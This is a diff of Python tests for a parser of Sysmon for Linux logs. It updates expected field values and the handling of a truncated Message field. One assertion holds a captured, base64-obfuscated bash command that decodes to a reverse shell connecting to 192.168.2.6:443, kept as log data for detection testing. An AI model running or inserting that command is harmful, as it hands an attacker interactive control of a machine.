@@ -91,7 +91,7 @@ def test_enriched_records_name_their_numbers(tmp_path: Path) -> None:
         "file-created",
         "/tmp/new",
         "web1",
-        None,
+        "web1",
     )
     assert [p["nametype"] for p in json.loads(row["paths"])] == ["PARENT", "CREATE"]
 
@@ -227,5 +227,7 @@ def test_real_sysmon_for_linux(real_data: Path) -> None:
         shell["CommandLine"]
         == "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
     )
-    assert "Message" not in shell
+    cut = [row for row in rows if "Message" in row]  # one record was cut off on its way: its text is kept
+    assert cut == [shell]
+    assert shell["Message"].endswith(" -Dcatalina.base=/opt/tomcat -")
     assert shell["_time"].isoformat() == "2022-05-11T18:10:22.003485+00:00"
